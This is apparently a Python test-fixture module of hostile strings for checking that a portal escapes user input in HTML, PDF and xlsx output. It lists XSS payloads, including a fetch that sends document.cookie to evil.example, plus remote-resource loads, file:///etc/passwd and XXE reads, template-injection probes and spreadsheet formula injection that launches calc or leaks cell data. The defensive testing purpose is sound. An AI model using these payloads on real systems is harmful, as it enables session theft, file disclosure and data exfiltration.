"""Hostile text for every free-text field: markup, scripts, fetches, formulas, unicode.

Each payload is plain text a user could type or paste. The portal must show it
as text (escaped in HTML, literal in the PDF, a string cell in xlsx), never run
it, never fetch what it points at, and never let a spreadsheet evaluate it.
"""

from __future__ import annotations

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    '"><script>alert(3)</script>',
    "'><script>alert(4)</script>",
    "</textarea><script>alert(5)</script>",
    "</title><script>alert(6)</script>",
    "<script>fetch('http://evil.example/?c='+document.cookie)</script>",
    "<<script>alert(7);//<</script>",
]
EVENT_HANDLERS = [
    "<img src=x onerror=alert(8)>",
    '<img src="x" onerror="alert(9)">',
    "<body onload=alert(10)>",
    "<div onmouseover=alert(11)>마우스</div>",
    '" onfocus="alert(12)" autofocus="',
    "' onmouseover='alert(13)",
    "<input autofocus onfocus=alert(14)>",
    "<details open ontoggle=alert(15)>",
    "<video><source onerror=alert(16)></video>",
    "<marquee onstart=alert(17)>돌봄</marquee>",
]
URLS = [
    "javascript:alert(18)",
    '<a href="javascript:alert(19)">클릭</a>',
    "<a href=JaVaScRiPt:alert(20)>클릭</a>",
    '<a href="&#106;avascript:alert(21)">클릭</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyMik8L3NjcmlwdD4=">데이터</a>',
    "<iframe src=http://evil.example/></iframe>",
    '<iframe src="file:///etc/passwd"></iframe>',
    '<img src="http://evil.example/track.png">',
    '<img src="file:///etc/passwd">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<link rel="attachment" href="file:///etc/passwd">',
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="http://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/"><button>제출</button></form>',
]
SVG_AND_CSS = [
    "<svg onload=alert(23)>",
    "<svg><script>alert(24)</script></svg>",
    '<svg><image href="http://evil.example/x.png"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(25)>",
    '<style>@import url("http://evil.example/x.css");</style>',
    "<style>body{background:url(http://evil.example/bg.png)}</style>",
    '<div style="background:url(file:///etc/passwd)">배경</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">덮기</p>',
    "url(http://evil.example/x.png)",
    "@import 'http://evil.example/x.css';",
]
ENTITIES = [
    "&lt;script&gt;alert(26)&lt;/script&gt;",
    "&#60;script&#62;alert(27)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(28)&#x3E;",
    "&amp;lt;b&amp;gt;굵게&amp;lt;/b&amp;gt;",
    "<!--<img src=x onerror=alert(29)>-->",
    "<![CDATA[<script>alert(30)</script>]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "{{ request.user.password }}",
    "{% debug %}",
    "${7*7} #{7*7} <%= 7*7 %>",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"클릭")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "+82-10-1234-5678",
    "-",
]
UNICODE = [
    "\u202eevil\u202c 오른쪽에서 왼쪽",
    "zero\u200bwidth\u200djoiner\ufeff",
    "＜script＞alert(31)＜/script＞",
    "\u2028줄 나눔\u2029문단 나눔",
    "돌봄 👍🏽 👨‍👩‍👧 ✅",
    "제어 문자\x07벨 \x1b[31m색\x1b[0m",
    "한글\r\n윈도 줄바꿈\r맥 줄바꿈",
    "e\u0301\u0301\u0301\u0301 결합 문자",
]
LONG = [
    "가" * 5000,
    "<b>" * 500,
    ("아주긴단어" * 200),
]

ALL: list[str] = SCRIPT + EVENT_HANDLERS + URLS + SVG_AND_CSS + ENTITIES + FORMULAS + UNICODE + LONG

# Short enough for a CharField of max_length=100 (facility names, member names).
SHORT: list[str] = [p for p in ALL if len(p) <= 100]

# Payloads whose raw form contains markup that must never reach the page unescaped.
MARKUP: list[str] = [p for p in ALL if "<" in p]

assert len(ALL) >= 50, len(ALL)
